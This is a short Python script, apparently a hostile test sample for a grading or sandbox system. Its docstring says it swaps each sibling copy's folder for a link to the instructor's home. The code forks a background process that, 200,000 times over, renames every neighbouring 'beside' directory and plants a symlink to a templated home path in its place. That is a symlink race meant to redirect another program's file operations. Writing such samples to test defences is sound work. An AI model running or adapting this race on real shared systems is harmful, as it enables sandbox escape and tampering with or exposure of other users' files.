"""Puts a link to the instructor's home in the place of a folder of each copy. Nothing there gets another owner.

folder-beside right any
"""

import os

if hasattr(os, "fork") and not os.fork():
    for _ in range(200_000):
        for folder in os.listdir(".."):
            try:
                os.rename(f"../{folder}/beside", f"../{folder}/before")
                os.symlink("{{HOME}}", f"../{folder}/beside")
            except OSError:
                pass
    os._exit(0)
